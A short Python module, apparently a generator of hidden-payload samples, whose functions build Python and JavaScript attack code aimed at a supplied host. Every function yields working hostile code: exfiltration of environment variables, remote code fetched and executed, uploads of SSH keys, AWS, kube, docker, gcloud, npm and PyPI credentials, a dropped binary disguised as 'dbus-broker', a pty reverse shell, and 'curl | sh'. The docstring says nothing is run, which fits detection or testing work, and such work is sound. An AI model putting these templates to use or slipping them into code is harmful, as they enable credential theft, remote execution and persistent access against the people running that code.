"""Code that is hidden whole: what a layer gives once it is taken off. Hosts come from the update; nothing of it is ever run."""


def py_env(host: str) -> str:
    return f"import os, urllib.request, urllib.parse\nurllib.request.urlopen('https://{host}/i', urllib.parse.urlencode(dict(os.environ)).encode(), 8)\n"


def py_stage(host: str) -> str:
    return f"import urllib.request\nexec(urllib.request.urlopen('https://{host}/n.py').read())\n"


def py_files(host: str) -> str:
    return (
        "import os, pathlib, urllib.request\nh = pathlib.Path.home()\n"
        "for n in ('.netrc', '.pypirc', '.kube/config', '.docker/config.json', '.config/gcloud/credentials.db'):\n"
        "    if (h / n).is_file():\n"
        f"        urllib.request.urlopen(urllib.request.Request('https://{host}/' + n, (h / n).read_bytes(), method='PUT'))\n"
    )


def py_drop(host: str) -> str:
    return (
        "import os, subprocess, tempfile, urllib.request\np = os.path.join(tempfile.gettempdir(), 'dbus-broker')\n"
        f"urllib.request.urlretrieve('https://{host}/d', p)\nos.chmod(p, 0o700)\nsubprocess.Popen([p], start_new_session=True)\n"
    )


def py_shell(address: str) -> str:
    return (
        f"import os, pty, socket\ns = socket.socket()\ns.connect(('{address}', 9001))\n"
        "[os.dup2(s.fileno(), n) for n in (0, 1, 2)]\npty.spawn('bash')\n"
    )


def js_env(host: str) -> str:
    return f"fetch('https://{host}/p',{{method:'POST',body:JSON.stringify({{e:process.env,c:process.cwd()}})}}).catch(()=>0);"


def js_stage(host: str) -> str:
    return f"fetch('https://{host}/n').then(r=>r.text()).then(t=>new Function('require',t)(require)).catch(()=>0);"


def js_files(host: str) -> str:
    return (
        "const f=require('fs'),p=require('path'),h=require('os').homedir();"
        "for(const n of['.npmrc','.ssh/id_ed25519','.aws/credentials','.config/gh/hosts.yml']){"
        f"try{{fetch('https://{host}/'+n,{{method:'PUT',body:f.readFileSync(p.join(h,n))}}).catch(()=>0)}}catch{{}}}}"
    )


def js_run(host: str) -> str:
    return f"require('child_process').exec('curl -s https://{host}/i.sh | sh',()=>0);"


def js_shell_words(host: str) -> str:
    return f"curl -s https://{host}/f | sh"
